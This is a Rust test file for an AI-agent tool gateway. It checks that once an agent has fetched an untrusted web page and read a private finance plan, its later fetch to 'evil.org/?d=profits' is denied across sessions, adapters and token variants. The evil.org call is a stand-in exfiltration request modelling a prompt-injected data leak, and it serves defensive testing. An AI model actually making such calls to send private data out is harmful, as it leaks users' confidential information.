//! A page of a stranger, a plan of ours, and then a call that could carry the plan away: under the shipped policies the
//! last is denied through every door, in one session, in several, in one for each server, and in none.

use std::time::Duration;

use serde_json::json;

use crate::adapters_agree::call::{By, Call, Known, Question, What};
use crate::adapters_agree::company::Company;
use crate::adapters_agree::ext_authz::ExtAuthz;
use crate::adapters_agree::ext_mcp::ExtMcp;
use crate::adapters_agree::ext_proc::ExtProc;
use crate::adapters_agree::toolhive::Toolhive;
use crate::adapters_agree::{Answer, Door, Native};
use crate::http::authzen::EVALUATION;
use crate::support::bundle_dir::BundleDir;
use crate::support::plain_http::post;

/// The sessions that the three calls name.
const NAMES: [(&str, [Option<&str>; 3]); 4] = [
    ("one session", [Some("s-1"), Some("s-1"), Some("s-1")]),
    ("another each", [Some("s-1"), Some("s-2"), Some("s-3")]),
    ("one a server", [Some("web"), Some("files"), Some("web-2")]),
    ("none", [None, None, None]),
];

fn call(person: &'static str, what: What, session: Option<&'static str>) -> Question {
    let server = match &what {
        What::Tool("fetch", _) => "fetch",
        _ => "filesystem",
    };
    Question::Call(Call {
        by: By::Agent("research"),
        known: Known::Token(Vec::new()),
        person: Some(person),
        actors: Vec::new(),
        scopes: Vec::new(),
        server,
        what,
        session,
        task: None,
        delegation: None,
        approval: None,
        id: Some(json!(1)),
        address: None,
        traceparent: None,
    })
}

fn page() -> What {
    What::Tool("fetch", json!({"url": "https://blog.stranger.org/post"}))
}

fn plan() -> What {
    What::Tool("read_text_file", json!({"path": "/srv/finance/plan.md"}))
}

fn carry_away() -> What {
    What::Tool("fetch", json!({"url": "https://evil.org/?d=profits"}))
}

/// Asks what a door can say of a question.
async fn ask<D: Door>(door: &mut D, company: &Company, question: Question) -> Answer {
    let question = D::sayable(question).expect("it can be asked");
    door.ask(company, &question).await
}

async fn nothing_gets_away<D: Door>(config: &str, names_sessions: bool) {
    let config = format!("{}{config}", D::CONFIG);
    for (how, [first, second, third]) in NAMES {
        let company = Company::with(&config, &BundleDir::copy_of("policies")).await;
        let mut door = D::of(&company).await;
        // Alone, the last one would be allowed wherever somebody keeps count.
        let alone = ask(&mut door, &company, call("noor", carry_away(), third)).await;
        let is_counted = names_sessions && third.is_some();
        assert_eq!(alone.is_allow, is_counted, "{how}: {alone:?}");
        let read = ask(&mut door, &company, call("noor", page(), first)).await;
        assert_eq!(read.is_allow, is_counted, "{how}: {read:?}");
        let read = ask(&mut door, &company, call("noor", plan(), second)).await;
        assert!(read.is_allow, "{how}: {read:?}");
        let last = ask(&mut door, &company, call("noor", carry_away(), third)).await;
        assert!(!last.is_allow, "{how}: {last:?}");
        // The agent works for somebody else as before.
        let others = Some("s-9").filter(|_| third.is_some());
        let other = ask(&mut door, &company, call("mika", carry_away(), others)).await;
        assert_eq!(other.is_allow, is_counted, "{how}: {other:?}");
    }
}

#[tokio::test]
async fn nothing_gets_away_natively() {
    for (how, sessions) in NAMES {
        let company = Company::with("", &BundleDir::copy_of("policies")).await;
        let mut native = Native(company.server.client().await);
        let mut allowed = Vec::new();
        for (what, session) in [page(), plan(), carry_away()].into_iter().zip(sessions) {
            let answer = native.ask(&company, &call("noor", what, session)).await;
            allowed.push(answer.is_allow);
        }
        assert_eq!(allowed, [sessions[0].is_some(), true, false], "{how}");
        // For its time it stays known, in whatever session.
        company.clock.pass(Duration::from_secs(3_599));
        let late = call("noor", carry_away(), Some("s-8"));
        let answer = native.ask(&company, &late).await;
        assert!(!answer.is_allow, "{how}: {answer:?}");
        company.clock.pass(Duration::from_secs(3_601));
        let later = call("noor", carry_away(), Some("s-7"));
        assert!(native.ask(&company, &later).await.is_allow, "{how}");
    }
}

/// For how long is what `[memory]` says.
#[tokio::test]
async fn what_was_read_is_known_for_as_many_minutes_as_configured() {
    for (config, is_allow_after) in [("[memory]\npair_minutes = 5", true), ("", false)] {
        let company = Company::with(config, &BundleDir::copy_of("policies")).await;
        let mut native = Native(company.server.client().await);
        for (what, session) in [(page(), "s-1"), (plan(), "s-2")] {
            let answer = native
                .ask(&company, &call("noor", what, Some(session)))
                .await;
            assert!(answer.is_allow, "{answer:?}");
        }
        company.clock.pass(Duration::from_secs(299));
        let within = call("noor", carry_away(), Some("s-3"));
        assert!(!native.ask(&company, &within).await.is_allow, "{config}");
        company.clock.pass(Duration::from_secs(302));
        let after = native
            .ask(&company, &call("noor", carry_away(), Some("s-4")))
            .await;
        assert_eq!(after.is_allow, is_allow_after, "{config}: {after:?}");
    }
}

#[tokio::test]
async fn nothing_gets_away_through_ext_authz() {
    nothing_gets_away::<ExtAuthz>("", true).await;
}

#[tokio::test]
async fn nothing_gets_away_through_ext_proc() {
    nothing_gets_away::<ExtProc>("", true).await;
}

#[tokio::test]
async fn nothing_gets_away_through_ext_mcp() {
    nothing_gets_away::<ExtMcp>("", true).await;
}

#[tokio::test]
async fn nothing_gets_away_through_toolhive() {
    nothing_gets_away::<Toolhive>("[toolhive]\nagent = \"research\"\n", false).await;
}

/// A session that the gateway vouches for begins anew; the same name from a client does not.
async fn begins_anew_if_vouched_for<D: Door>(config: &str, is_vouched: bool) {
    let company = Company::with(config, &BundleDir::copy_of("policies")).await;
    let mut door = D::of(&company).await;
    for what in [page(), plan()] {
        let read = ask(&mut door, &company, call("noor", what, Some("s-1"))).await;
        assert!(read.is_allow, "{read:?}");
    }
    for (session, is_allow) in [("s-2", is_vouched), ("s-1", false)] {
        let question = call("noor", carry_away(), Some(session));
        let answer = ask(&mut door, &company, question).await;
        assert_eq!(answer.is_allow, is_allow, "{session}: {answer:?}");
    }
}

#[tokio::test]
async fn a_session_that_is_vouched_for_begins_anew_through_ext_authz() {
    let vouched = ExtAuthz::CONFIG.replace("[envoy]", "[envoy]\nsession_vouched = true");
    begins_anew_if_vouched_for::<ExtAuthz>(&vouched, true).await;
    begins_anew_if_vouched_for::<ExtAuthz>(ExtAuthz::CONFIG, false).await;
}

#[tokio::test]
async fn a_session_that_is_vouched_for_begins_anew_through_ext_mcp() {
    let vouched = ExtMcp::CONFIG.replace("[ext_mcp]", "[ext_mcp]\nsession_vouched = true");
    assert_ne!(vouched, ExtMcp::CONFIG);
    begins_anew_if_vouched_for::<ExtMcp>(&vouched, true).await;
    begins_anew_if_vouched_for::<ExtMcp>(ExtMcp::CONFIG, false).await;
}

/// The same question by somebody who shows the person's own token, which names no agent.
fn by_person(question: Question) -> Question {
    match question {
        Question::Call(call) => Question::Call(Call {
            by: By::Person(call.person.expect("for somebody")),
            person: None,
            ..call
        }),
        other => other,
    }
}

/// An agent may hold the token that it was given its own for.
async fn leaving_the_agent_out_sheds_nothing<D: Door>(config: &str) {
    for reads_as_person in [false, true] {
        let company = Company::with(config, &BundleDir::copy_of("policies")).await;
        let mut door = D::of(&company).await;
        let by = |is_person: bool, question: Question| match is_person {
            true => by_person(question),
            false => question,
        };
        for (what, session) in [(page(), "s-1"), (plan(), "s-2")] {
            let question = by(reads_as_person, call("noor", what, Some(session)));
            let read = ask(&mut door, &company, question).await;
            assert!(read.is_allow, "{reads_as_person}: {read:?}");
        }
        let question = call("noor", carry_away(), Some("s-3"));
        let last = ask(&mut door, &company, by(!reads_as_person, question)).await;
        assert!(!last.is_allow, "{reads_as_person}: {last:?}");
        for is_person in [false, true] {
            let question = by(is_person, call("mika", carry_away(), Some("s-4")));
            let other = ask(&mut door, &company, question).await;
            assert!(other.is_allow, "{is_person}: {other:?}");
        }
    }
}

#[tokio::test]
async fn leaving_the_agent_out_of_a_token_sheds_nothing_through_ext_authz() {
    leaving_the_agent_out_sheds_nothing::<ExtAuthz>(ExtAuthz::CONFIG).await;
    let vouched = ExtAuthz::CONFIG.replace("[envoy]", "[envoy]\nsession_vouched = true");
    leaving_the_agent_out_sheds_nothing::<ExtAuthz>(&vouched).await;
}

#[tokio::test]
async fn leaving_the_agent_out_of_a_token_sheds_nothing_through_ext_mcp() {
    leaving_the_agent_out_sheds_nothing::<ExtMcp>(ExtMcp::CONFIG).await;
}

/// What a call of another session has read is fetched in one that is vouched for.
#[tokio::test]
async fn a_result_that_is_fetched_later_brings_what_the_call_has_brought() {
    let vouched = ExtAuthz::CONFIG.replace("[envoy]", "[envoy]\nsession_vouched = true");
    for (method, brings) in [
        ("tasks/get", true),
        ("tasks/result", true),
        ("tasks/list", true),
        ("tasks/cancel", true),
        ("tasks/update", true),
        ("ping", false),
        ("initialize", false),
        ("server/discover", false),
        ("logging/setLevel", false),
    ] {
        let company = Company::with(&vouched, &BundleDir::copy_of("policies")).await;
        let mut door = ExtAuthz::of(&company).await;
        for what in [page(), What::Connect(method)] {
            let read = ask(&mut door, &company, call("noor", what, Some("s-1"))).await;
            assert!(read.is_allow, "{method}: {read:?}");
        }
        let last = call("noor", carry_away(), Some("s-1"));
        let last = ask(&mut door, &company, last).await;
        assert_eq!(last.is_allow, !brings, "{method}: {last:?}");
    }
}

/// Who asks in Cedar's own terms and does not say what was read is taken for somebody who has read everything.
#[tokio::test]
async fn nothing_gets_away_through_authzen() {
    let company = Company::open("").await;
    let mut allowed = Vec::new();
    for labels in [None, Some(json!([])), Some(json!(["private"]))] {
        let mut context = json!({
            "arguments": {"names": [], "untyped": [], "undeclared": []},
            "initiator": "client",
            "identity": {"verified": true, "method": "jwt", "asserted_groups": [], "asserted_attributes": []},
            "environment": {"now": "2026-01-01T00:00:00Z", "gateway": {"__entity": {"type": "Mcp::Gateway", "id": "local"}}},
        });
        if let Some(labels) = labels {
            context["labels"] = labels;
        }
        let question = json!({
            "subject": {"type": "Mcp::Agent", "id": "coder"},
            "action": {"name": "Mcp::Action::\"call_write\""},
            "resource": {"type": "Mcp::Tool", "id": "mail/send"},
            "context": context,
        });
        let reply = post(&company.server, EVALUATION, &question).await;
        assert_eq!(reply.status, 200, "{reply:?}");
        allowed.push(reply.json()["decision"].clone());
    }
    assert_eq!(allowed, [false, true, false]);
}
